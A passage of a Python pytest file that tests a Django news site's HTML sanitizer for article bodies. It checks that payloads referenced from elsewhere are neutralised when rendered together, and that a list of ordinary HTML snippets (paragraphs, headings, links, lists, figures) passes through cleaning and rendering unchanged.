    body = body_element(response.content.decode())
    assert body.startswith("<p>Before.</p>")
    assert problems(body) == [], body
    assert [marker for marker in MARKERS if marker in body.lower()] == [], body


@pytest.mark.django_db
def test_article_page_with_every_stopped_payload_at_once(client):
    # Together, one payload's unclosed tag or raw-text element swallows the
    # next: a different input again. Known survivors have their own xfails.
    nasty = "\n".join(payload for name, payload in PAYLOADS if name not in SURVIVES)
    article = PublishedArticleFactory(body=nasty)

    response = client.get(article.get_absolute_url())

    body = body_element(response.content.decode())
    assert problems(body) == [], body
    live = Fragment(body).live_markup()
    assert [marker for marker in MARKERS if marker in live] == [], body


LEGITIMATE = [
    ("<p>One paragraph.</p>\n<p>Another, with a line<br>break.</p>", None),
    ("<h2>Section</h2>\n<h3>Subsection</h3>\n<h4>Detail</h4>", None),
    (
        "<p><strong>Bold</strong>, <b>b</b>, <em>emphasis</em>, <i>i</i>, "
        "E = mc<sup>2</sup>, H<sub>2</sub>O.</p>",
        None,
    ),
    (
        '<p><a href="https://example.org/report?id=1&amp;lang=en" title="The report">'
        "the report</a></p>",
        '<p><a href="https://example.org/report?id=1&amp;lang=en" title="The report" '
        'rel="noopener noreferrer">the report</a></p>',
    ),
    (
        '<p><a href="/en/articles/other/">other</a> and <a href="mailto:desk@example.org">'
        "the desk</a></p>",
        '<p><a href="/en/articles/other/" rel="noopener noreferrer">other</a> and '
        '<a href="mailto:desk@example.org" rel="noopener noreferrer">the desk</a></p>',
    ),
    ("<ul><li>One</li><li>Two</li></ul>\n<ol><li>First</li><li>Second</li></ol>", None),
    ("<blockquote><p>We agreed on the text.</p></blockquote>", None),
    (
        '<figure><img src="/media/articles/2024/05/summit.jpg" alt="Leaders at the summit" '
        'width="800" height="533"><figcaption>The C5+1 summit.</figcaption></figure>',
        None,
    ),
    ("<p>Before.</p>\n<hr>\n<p>After.</p>", None),
    (
        "First paragraph.\n\nSecond paragraph.",
        "<p>First paragraph.</p>\n\n<p>Second paragraph.</p>",
    ),
]


@pytest.mark.parametrize(("source", "expected"), LEGITIMATE)
def test_legitimate_content_survives_exactly(source, expected):
    expected = source if expected is None else expected

    cleaned = clean_body_html(source)

    assert cleaned == expected
    assert problems(cleaned) == []
    assert clean_body_html(cleaned) == cleaned


@pytest.mark.django_db
def test_legitimate_content_survives_saving_and_rendering(client):
    body = "\n".join(expected or source for source, expected in LEGITIMATE)
    article = PublishedArticleFactory(body=body)

    assert Article.objects.get(pk=article.pk).body == body
    page = client.get(article.get_absolute_url()).content.decode()
    assert body_element(page) == body
